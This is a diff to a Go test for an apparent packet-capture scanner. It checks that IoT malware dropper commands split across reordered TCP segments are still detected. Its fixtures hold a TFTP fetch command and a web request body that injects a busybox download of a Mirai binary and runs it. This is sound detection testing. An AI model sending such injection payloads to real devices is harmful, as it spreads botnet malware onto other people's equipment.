@@ -625,6 +625,41 @@ func TestStreamReordered(t *testing.T) {
 		}
 	}
 
+	// Three parts, the middle one first, no handshake: the first part is
+	// read with the middle one as the stream's start, and the last
+	// continues them.
+	for li, l := range loaderLines {
+		whole, _ := scanBytes(t, streamPcap(t, []tseg{{sport: 50000, dport: l.port, seq: 1000, payload: l.line}}), Options{})
+		want := found(whole, 50000)
+		var segs []tseg
+		sport := uint16(1024)
+		for a := 1; a < len(l.line)-1; a += 3 {
+			for b := a + 1; b < len(l.line); b += 7 {
+				segs = append(segs, tseg{sport: sport, dport: l.port, seq: 5000 + uint32(a), payload: l.line[a:b]},
+					tseg{sport: sport, dport: l.port, seq: 5000, payload: l.line[:a]},
+					tseg{sport: sport, dport: l.port, seq: 5000 + uint32(b), payload: l.line[b:]})
+				sport++
+			}
+		}
+		evs, _ := scanBytes(t, streamPcap(t, segs), Options{})
+		for p := uint16(1024); p < sport; p++ {
+			if got := found(evs, p); !slices.Equal(got, want) {
+				t.Errorf("line %d, middle first (stream %d): %v, want %v", li, p-1024, got, want)
+			}
+		}
+	}
+	// A fetch left open (no separator), its halves swapped, no handshake:
+	// weak once, at the capture's end.
+	open := "tftp -g -r firmware.bin 10.0.0.9"
+	for k := 1; k < len(open); k++ {
+		p := uint16(30000 + k)
+		evs, _ := scanBytes(t, streamPcap(t, []tseg{{sport: p, dport: 23, seq: 70 + uint32(k), payload: open[k:]},
+			{sport: p, dport: 23, seq: 70, payload: open[:k]}}), Options{})
+		if got := found(evs, p); !slices.Equal(got, []string{"iot.tftp-dropper.generic/weak"}) {
+			t.Errorf("open fetch swapped at %d: %v", k, got)
+		}
+	}
+
 	// A web request's header segment, then its body's halves swapped.
 	body := "cmd=cd%20/tmp%3Bbusybox%20tftp%20-g%20-l%20d%20-r%20mirai.mips%2010.0.0.9%3Bsh%20d"
 	head := "POST /setup.cgi HTTP/1.1\r\nHost: 10.0.0.5\r\nContent-Length: 84\r\n\r\n"
